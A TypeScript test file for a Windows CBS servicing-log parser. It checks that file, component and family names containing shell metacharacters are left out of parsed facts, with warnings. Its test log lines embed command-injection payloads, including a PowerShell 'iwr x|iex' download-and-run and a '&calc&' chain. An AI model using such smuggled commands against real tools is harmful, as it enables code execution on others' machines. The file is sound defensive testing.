// Hostile names in a log are left out of the facts with a parse warning; the rest of the record and the parse survive.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { corruptionSchema, parseStatsSchema } from '../protocol/report';
import { ServicingLogParser, type ParserSnapshot } from './parser';

const MARK = 'PWNED';
const line = (message: string) => `2024-11-21 13:55:15, Error                 CSI    000000c4 ${message}\r\n`;

function parse(text: string, snapshotBetween = false) {
  const errors: string[] = [];
  const options = { onHandlerError: (error: unknown) => errors.push(String(error)) };
  let parser = new ServicingLogParser(options);
  parser.beginFile('CBS.log', 'cbs');
  parser.write(Buffer.from(text, 'latin1'));
  if (snapshotBetween) parser = ServicingLogParser.restore(JSON.parse(JSON.stringify(parser.snapshot())) as ParserSnapshot, options);
  const facts = parser.result(true);
  return { facts, errors };
}

test('a hostile "matching binary" is left out, the component it names is kept, and a warning says so', () => {
  const { facts, errors } = parse(
    line(`(F) Matching binary WpdMtpUS.dll" & powershell -c "iwr x|iex" & rem "${MARK}.dll missing for component dual_wpdmtp.inf, version 10.0.19041.746, arch amd64, nonSxS, pkt {l:8 b:31bf3856ad364e35}[gle=0x80004005]`) +
      line(`(F) Hydration failed for component dual_wpdmtp.inf, version 10.0.19041.746, arch amd64, nonSxS, pkt {l:8 b:31bf3856ad364e35} on file ..\\..\\System32\\${MARK}.dll with NTSTATUS -1073283059.[gle=0x80004005]`),
  );
  assert.deepEqual(errors, [], 'a left-out name is not a handler error');
  assert.equal(facts.corruption.length, 2);
  for (const entry of facts.corruption) {
    assert.equal(corruptionSchema.safeParse(entry).success, true);
    assert.equal(entry.family, 'dual_wpdmtp.inf');
    assert.equal(entry.version, '10.0.19041.746');
    assert.equal(entry.file, null);
    assert.ok(entry.evidence[0]?.includes(MARK), 'the raw line stays as evidence');
  }
  assert.deepEqual(facts.parse.warnings, [
    '2 corruption file names were left out: not a valid Windows name (control or shell characters, or a path outside the component folder), so no repair command may use it.',
  ]);
  assert.equal(parseStatsSchema.safeParse(facts.parse).success, true);
});

test('a hostile family falls back to the file name, without the component details that came with it', () => {
  const { facts } = parse(line(`(F) Matching binary vmbuspipec.dll missing for component dual_wvmbusr.inf"&calc&rem"${MARK}, version 10.0.19041.4597, arch amd64, nonSxS[gle=0x80004005]`));
  const [entry] = facts.corruption;
  assert.deepEqual([entry?.family, entry?.component, entry?.version, entry?.arch, entry?.file], ['vmbuspipec.dll', null, null, null, 'vmbuspipec.dll']);
  assert.equal(facts.parse.warnings?.length, 2, JSON.stringify(facts.parse.warnings));
  assert.match(facts.parse.warnings?.join(' ') ?? '', /1 corruption component name was left out.*1 corruption family name was left out/);
});

test('warnings survive a snapshot; a clean log has none', () => {
  const { facts } = parse(line(`(F) Matching binary a|${MARK}.dll missing for component dual_wpdmtp.inf, version 10.0.19041.746, arch amd64[gle=0x80004005]`), true);
  assert.match(facts.parse.warnings?.[0] ?? '', /^1 corruption file name was left out/);
  const clean = parse(line('(F) Matching binary WpdMtpUS.dll missing for component dual_wpdmtp.inf, version 10.0.19041.746, arch amd64[gle=0x80004005]'));
  assert.equal(clean.facts.parse.warnings, undefined);
  assert.equal(clean.facts.corruption[0]?.file, 'WpdMtpUS.dll');
});

test('a snapshot written before the naming rules is cleaned on restore', () => {
  const parser = new ServicingLogParser();
  parser.beginFile('CBS.log', 'cbs');
  parser.write(Buffer.from(line('(F) Matching binary WpdMtpUS.dll missing for component dual_wpdmtp.inf, version 10.0.19041.746, arch amd64[gle=0x80004005]'), 'latin1'));
  // The next record closes the first, so the snapshot holds its fact.
  parser.write(Buffer.from('2024-11-21 13:55:16, Info                  CBS    Ending TrustedInstaller finalization.\r\n', 'latin1'));
  const snapshot = JSON.parse(JSON.stringify(parser.snapshot())) as ParserSnapshot;
  const [stored] = snapshot.facts.corruption;
  assert.ok(stored);
  snapshot.facts.corruption[0] = { ...stored, file: `WpdMtpUS.dll" & ${MARK}`, component: `amd64_x&${MARK}` };
  delete snapshot.facts.leftOutNames;
  const facts = ServicingLogParser.restore(snapshot).result(true);
  assert.deepEqual([facts.corruption[0]?.file, facts.corruption[0]?.component], [null, null]);
  assert.equal(facts.parse.warnings?.length, 2, JSON.stringify(facts.parse.warnings));
});
